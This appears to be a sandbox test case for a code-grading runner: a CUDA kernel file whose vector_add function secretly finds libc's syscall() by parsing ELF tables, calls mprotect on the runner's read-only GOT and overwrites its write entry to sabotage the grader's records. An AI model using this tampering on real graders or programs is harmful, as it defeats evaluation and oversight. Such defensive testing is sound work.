// ATTACK: the runner's GOT is read-only (-z relro -z now), so make it
// writable again first: find the C library's syscall() by reading its
// symbol table in memory, mprotect the page of the GOT slot of write, and
// store a function of this file there, so the runner's next record goes
// through it on the runner's own thread. Defended: the fenced thread may
// not change the protection or the mapping of the runner's executable.
// Had it worked, the next record would fail to be written (exit 70).
// EXPECT: which changes how the grader's own code and data are mapped
#include <cuda_runtime.h>
#include <elf.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

static long refuse_to_write(int, const void *, unsigned long) { return -1; }

extern "C" cudaError_t vector_add(const float *d_a, const float *d_b, float *d_c, int n,
                                  cudaStream_t stream);

/* A C library symbol found without the dynamic loader (dlsym is not on the
 * allowlist): from printf back to the library's ELF header, then through
 * its dynamic symbol table. Only allowlisted calls are used. */
static void *find_in_libc(const char *want)
{
    uintptr_t base = (uintptr_t)&printf & ~(uintptr_t)4095;
    while (memcmp((const void *)base, ELFMAG, SELFMAG) != 0) base -= 4096;
    const Elf64_Ehdr *eh = (const Elf64_Ehdr *)base;
    const Elf64_Phdr *ph = (const Elf64_Phdr *)(base + eh->e_phoff);
    const Elf64_Dyn *dyn = NULL;
    for (int i = 0; i < eh->e_phnum; i++)
        if (ph[i].p_type == PT_DYNAMIC) dyn = (const Elf64_Dyn *)(base + ph[i].p_vaddr);
    uintptr_t symtab = 0, strtab = 0;
    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
        if (dyn->d_tag == DT_SYMTAB) symtab = dyn->d_un.d_ptr;
        if (dyn->d_tag == DT_STRTAB) strtab = dyn->d_un.d_ptr;
    }
    if (symtab < base) symtab += base;
    if (strtab < base) strtab += base;
    const char *names = (const char *)strtab;
    for (const Elf64_Sym *s = (const Elf64_Sym *)symtab; (uintptr_t)s < strtab; s++)
        if (s->st_name && s->st_value && strcmp(names + s->st_name, want) == 0)
            return (void *)(base + s->st_value);
    return NULL;
}

typedef long (*syscall_fn)(long, ...);

/* The GOT slot the executable's relocations give to `want`, or NULL. */
static void **got_slot_of(const char *want)
{
    uintptr_t base = (uintptr_t)&vector_add & ~(uintptr_t)4095;
    while (memcmp((const void *)base, ELFMAG, SELFMAG) != 0) base -= 4096;
    const Elf64_Ehdr *eh = (const Elf64_Ehdr *)base;
    const Elf64_Phdr *ph = (const Elf64_Phdr *)(base + eh->e_phoff);
    const Elf64_Dyn *dyn = NULL;
    for (int i = 0; i < eh->e_phnum; i++)
        if (ph[i].p_type == PT_DYNAMIC) dyn = (const Elf64_Dyn *)(base + ph[i].p_vaddr);
    uintptr_t symtab = 0, strtab = 0, jmprel = 0, rela = 0;
    size_t jmprel_size = 0, rela_size = 0;
    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
        if (dyn->d_tag == DT_SYMTAB) symtab = dyn->d_un.d_ptr;
        if (dyn->d_tag == DT_STRTAB) strtab = dyn->d_un.d_ptr;
        if (dyn->d_tag == DT_JMPREL) jmprel = dyn->d_un.d_ptr;
        if (dyn->d_tag == DT_PLTRELSZ) jmprel_size = dyn->d_un.d_val;
        if (dyn->d_tag == DT_RELA) rela = dyn->d_un.d_ptr;
        if (dyn->d_tag == DT_RELASZ) rela_size = dyn->d_un.d_val;
    }
    if (!symtab || !strtab) return NULL;
    const Elf64_Sym *syms = (const Elf64_Sym *)(symtab < base ? symtab + base : symtab);
    const char *names = (const char *)(strtab < base ? strtab + base : strtab);
    const uintptr_t tables[2] = {jmprel, rela};
    const size_t sizes[2] = {jmprel_size, rela_size};
    for (int t = 0; t < 2; t++) {
        if (!tables[t]) continue;
        const Elf64_Rela *r = (const Elf64_Rela *)(tables[t] < base ? tables[t] + base : tables[t]);
        for (size_t i = 0; i < sizes[t] / sizeof *r; i++) {
            uint32_t sym = (uint32_t)(r[i].r_info >> 32);
            if (sym && strcmp(names + syms[sym].st_name, want) == 0)
                return (void **)(base + r[i].r_offset);
        }
    }
    return NULL;
}

__global__ void add(const float *a, const float *b, float *c, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) c[i] = a[i] + b[i];
}

extern "C" cudaError_t vector_add(const float *d_a, const float *d_b, float *d_c, int n,
                                  cudaStream_t stream)
{
    void **slot = got_slot_of("write");
    syscall_fn sys = (syscall_fn)find_in_libc("syscall");
    if (slot && sys) {
        uintptr_t page = (uintptr_t)slot & ~(uintptr_t)4095;
        if (sys(10 /* mprotect */, page, 4096, 3 /* PROT_READ | PROT_WRITE */) == 0)
            *slot = (void *)refuse_to_write;
    }
    if (n > 0) add<<<(n + 255) / 256, 256, 0, stream>>>(d_a, d_b, d_c, n);
    return cudaGetLastError();
}
